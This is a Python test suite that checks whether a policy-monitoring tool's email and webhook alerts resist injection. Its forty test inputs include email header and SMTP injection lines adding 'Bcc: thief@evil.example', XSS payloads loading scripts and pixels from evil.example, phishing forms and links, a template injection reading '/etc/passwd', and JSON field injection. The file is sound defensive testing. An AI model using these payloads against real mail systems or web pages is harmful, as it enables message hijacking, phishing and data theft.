"""Forty attempts to speak through our messages with words that others wrote, in every form a message has."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from email import message_from_bytes, policy
from functools import cache
from typing import TYPE_CHECKING

import pytest
from lxml import html

from monitor.alerts.email import build_email
from monitor.alerts.message import as_json
from storage.records import DocumentKey

if TYPE_CHECKING:
    from collections.abc import Callable
    from email.message import EmailMessage

    from lxml.html import HtmlElement

    from monitor.alerts.alert import Alert
    from monitor.comparison.changes import Change

NOW = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)
HEADERS = {
    *("subject", "from", "to", "date", "message-id", "in-reply-to", "references", "auto-submitted"),
    *("list-unsubscribe", "mime-version", "content-type"),
}
# Ends of lines: those of mail, those of Unicode, and what some programs take for them.
ENDS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\x00\n", "\r\n\r\n", "\n ")
FORTY = [
    *(f"Shop{end}Bcc: thief@evil.example" for end in ENDS),
    "Shop\r\nContent-Type: text/html\r\n\r\n<b>paid</b>",
    "Shop\r\n.\r\nMAIL FROM:<thief@evil.example>",
    "=?utf-8?q?=0D=0ABcc:_thief@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=",
    "%0d%0aBcc: thief@evil.example",
    "Shop\udc0d\udc0aBcc: thief@evil.example",
    '"><script src="https://evil.example/x.js"></script>',
    "<script>alert(1)</script>",
    '<img src="https://evil.example/pixel.gif">',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="https://evil.example/login">Log in again</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    "<style>body{background:url(https://evil.example/b)}</style>",
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "</p></div></body></html><h1>Your account is closed</h1>",
    "<!-- <b>paid</b> --><b>paid</b>",
    "<![CDATA[<b>paid</b>]]>",
    "' onmouseover='alert(1)",
    '" style="background:url(https://evil.example/b)',
    "{{ 7 * 191 }}{% include '/etc/passwd' %}",
    "[Log in again](https://evil.example)",
    "javascript:alert(1)//",
    "\u202egro.elpmaxe.live//:sptth",
    'x", "type": "policy.unchanged", "y": "',
]
# Every field of an alert that others may write, one at a time and all together.
PLACES = ("site", "type", "key", "address", "section", "quotes", "meaning", "all")


def hostile(
    words: str, place: str, make_alert: Callable[..., Alert], make_change: Callable[..., Change]
) -> Alert:
    """Return an alert in which hostile words stand at a place."""
    fields = {
        "site": {"site_name": words},
        "type": {"document_type": words},
        "key": {"key": DocumentKey("example-shop", words), "idempotency_key": words},
        "address": {"url": words, "also": ((words, words),)},
    }
    parts = {
        "section": {"section": words, "section_before": words},
        "quotes": {"before": f"We keep it. {words}", "after": f"We sell it. {words}"},
        "meaning": {"summary": words},
    }
    wanted = (place,) if place != "all" else (*fields, *parts)
    given = {name: value for key in wanted for name, value in fields.get(key, {}).items()}
    quoted = {name: value for key in wanted for name, value in parts.get(key, {}).items()}
    return make_alert(changes=(make_change(**quoted),), **given)


def as_sent(*alerts: Alert) -> EmailMessage:
    """Return the message as whoever receives it reads it."""
    message = build_email(alerts, "watch@shop.example", ["legal@shop.example"], NOW)
    return message_from_bytes(message.as_bytes(), policy=policy.default)


def page_of(message: EmailMessage) -> HtmlElement:
    """Return the HTML part as a browser reads it."""
    part = message.get_body(["html"])
    assert part is not None
    return html.document_fromstring(part.get_content())


def tags(page: HtmlElement) -> set[object]:
    """Return the kinds of elements that a page is made of."""
    return {element.tag for element in page.iter()}


@cache
def usual_tags(*alerts: Alert) -> set[object]:
    """Return the kinds of elements of a message about harmless alerts, each of which is compared with hundreds."""
    return tags(page_of(as_sent(*alerts)))


def test_there_are_forty() -> None:
    assert len(set(FORTY)) == 40


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("words", FORTY)
def test_no_mail_and_no_digest_says_what_others_wrote_as_its_own(
    words: str, place: str, make_alert: Callable[..., Alert], make_change: Callable[..., Change]
) -> None:
    attack, harmless = hostile(words, place, make_alert, make_change), make_alert(idempotency_key="other")
    another = make_alert(idempotency_key="another", changes=(make_change(after="We keep them for ever."),))
    for alerts, usual in (([attack], [harmless]), ([attack, another], [harmless, another])):
        message = as_sent(*alerts)
        names = [name.lower() for name, _ in message.items()]
        assert set(names) <= HEADERS
        assert len(names) == len(set(names))
        assert message["To"] == "legal@shop.example"
        assert [part.get_content_type() for part in message.walk()] == [
            *("multipart/alternative", "text/plain", "text/html")
        ]
        text, page = (part.get_content() for part in message.iter_parts())
        assert not any(line.startswith(("Bcc:", "MAIL FROM", "Content-Type:")) for line in text.splitlines())
        shown = page_of(message)
        assert tags(shown) <= usual_tags(*usual)
        given = {name for element in shown.iter() for name in element.attrib}
        assert not any(name.startswith("on") or name in {"src", "action", "srcset"} for name in given)
        assert {link.get("href") for link in shown.iter("a")} <= {"https://shop.example/privacy"}
        assert "1337" not in page


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("words", FORTY)
def test_no_payload_of_a_webhook_gets_another_shape(
    words: str, place: str, make_alert: Callable[..., Alert], make_change: Callable[..., Change]
) -> None:
    payload = as_json(hostile(words, place, make_alert, make_change))
    body = json.dumps(payload).encode("ascii")
    assert b"\n" not in body
    assert b"\r" not in body
    assert json.loads(body) == payload
    assert payload["type"] == "policy.changed"
    assert set(payload) == set(as_json(make_alert()))
